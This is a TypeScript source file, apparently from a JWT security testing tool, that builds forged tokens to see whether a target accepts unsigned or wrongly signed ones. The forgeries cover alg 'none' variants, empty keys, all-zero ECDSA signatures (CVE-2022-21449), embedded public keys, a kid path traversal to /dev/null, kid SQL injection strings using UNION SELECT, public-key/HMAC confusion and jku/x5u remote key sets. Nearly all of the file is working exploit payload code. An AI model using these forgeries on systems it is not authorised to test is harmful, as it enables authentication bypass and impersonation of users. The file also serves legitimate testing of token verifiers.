import { createPublicKey, generateKeyPairSync, type KeyObject } from 'node:crypto';
import type { JsonObject } from './json.ts';
import { macToken, signedToken, signingInput, type Token } from './token.ts';

/** Ways to make a token that nobody with the key has signed. */
export interface Forgery {
  /** What the target would have to be doing wrong. */
  readonly flaw: string;
  /** Tokens with the claims as they are; the first that is accepted proves the flaw. */
  readonly texts: readonly string[];
}

const UNSIGNED_NAMES = ['none', 'None', 'NONE', 'nOnE'];

/** Needs nothing but the token. */
export function forgeriesOf({ text, header, algorithm, claims }: Token): readonly Forgery[] {
  const [head = '', body = '', signature = ''] = text.split('.');
  const unsigned = UNSIGNED_NAMES.flatMap((alg) => {
    const input = signingInput({ ...header, alg }, claims);
    return [`${input}.`, `${input}.${signature}`];
  });
  const mac = (changed: JsonObject, key: string | Buffer) =>
    macToken({ ...header, ...changed }, macNameOf(algorithm), claims, key);
  return [
    { flaw: 'the algorithm "none" is accepted', texts: unsigned },
    { flaw: 'a missing signature is accepted', texts: [`${head}.${body}.`] },
    { flaw: 'a signature with an empty key is accepted', texts: [mac({}, '')] },
    { flaw: 'a signature of zeros is accepted', texts: zeroSignatures(head, body, algorithm) },
    { flaw: 'the key in the token itself is trusted', texts: embeddedKeys(header, claims) },
    {
      flaw: 'the key identifier names a file',
      texts: ['../../../../../../../../dev/null', '/dev/null', ''].map((kid) => mac({ kid }, '')),
    },
    {
      flaw: 'the key identifier is put into a statement',
      texts: ["x' UNION SELECT 'sallyport'-- ", "x' UNION SELECT 'sallyport';--"].map((kid) =>
        mac({ kid }, 'sallyport'),
      ),
    },
  ];
}

/**
 * The public key, which everybody has, as the secret of a MAC: what a library does that lets the
 * token choose the algorithm. RFC 8725 2.1. As the key may have been stored, with and without an
 * end of line.
 */
export function confusionsOf({ header, claims }: Token, keys: readonly JsonObject[]): Forgery {
  const texts = keys.flatMap((jwk) => {
    const key = createPublicKey({ key: jwk, format: 'jwk' });
    const pem = key.export({ type: 'spki', format: 'pem' }).toString();
    const der = key.export({ type: 'spki', format: 'der' });
    return [pem, pem.trimEnd(), der].map((secret) => macToken(header, 'HS256', claims, secret));
  });
  return { flaw: 'the public key is accepted as the secret of a MAC', texts };
}

/**
 * A token whose header says to fetch the key from this address, and the document to serve there.
 */
export function remoteKeyForgery(
  { header, claims }: Token,
  url: string,
): { readonly text: string; readonly keySet: string } {
  const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const kid = 'sallyport';
  const jwk = { ...publicKey.export({ format: 'jwk' }), kid, alg: 'RS256', use: 'sig' };
  const text = signedToken(
    { ...header, alg: 'RS256', kid, jku: url, x5u: url },
    claims,
    privateKey,
  );
  return { text, keySet: JSON.stringify({ keys: [jwk] }) };
}

function embeddedKeys(header: JsonObject, claims: JsonObject): string[] {
  const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const ec = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const embed = (
    alg: string,
    { publicKey, privateKey }: { publicKey: KeyObject; privateKey: KeyObject },
  ) =>
    signedToken(
      { ...header, alg, jwk: publicKey.export({ format: 'jwk' }) as JsonObject },
      claims,
      privateKey,
    );
  return [embed('RS256', rsa), embed('ES256', ec)];
}

/** Some libraries took r = s = 0 for a signature of anything. CVE-2022-21449. */
function zeroSignatures(head: string, body: string, algorithm: string): string[] {
  if (!algorithm.startsWith('ES')) return [];
  const bytes = { ES256: 64, ES384: 96, ES512: 132 }[algorithm] ?? 64;
  return [`${head}.${body}.${Buffer.alloc(bytes).toString('base64url')}`];
}

function macNameOf(algorithm: string): string {
  return algorithm.startsWith('HS') ? algorithm : 'HS256';
}
